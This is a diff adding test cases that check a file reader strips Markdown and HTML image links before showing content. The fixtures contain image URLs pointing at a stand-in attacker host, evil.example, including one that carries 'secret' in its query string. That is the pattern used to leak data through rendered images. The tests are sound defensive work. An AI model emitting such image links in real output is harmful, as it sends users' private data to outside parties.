@@ -81,6 +81,19 @@ const READ: Readonly<Record<string, Read>> = {
     has: ['Shown.'],
     lacks: ['not shown'],
   },
+  'Markdown with pictures that would leak': {
+    file: [
+      '# Top ![logo](https://evil.example/1)\n\nSee ![a cat](https://evil.example/?q=(secret) "title"), ![][ref] and <img alt="a dog" src="//evil.example/2">.\n\n- ![in a list](<https://evil.example/3>)\n\n[ref]: https://evil.example/4\n\n    ![code](https://kept.example)',
+      MD,
+    ],
+    has: ['# Top logo', 'a cat', 'a dog', 'in a list', 'kept.example'],
+    lacks: ['evil.example'],
+  },
+  'plain text with a picture that would leak': {
+    file: ['Look ![here](https://evil.example/?q=secret).', TXT],
+    has: ['Look here.'],
+    lacks: ['evil.example'],
+  },
   'a table in Markdown': {
     file: ['| a | b |\n|---|---|\n| 1 | 2 |', MD],
     has: ['| a | b |', '| 1 | 2 |'],
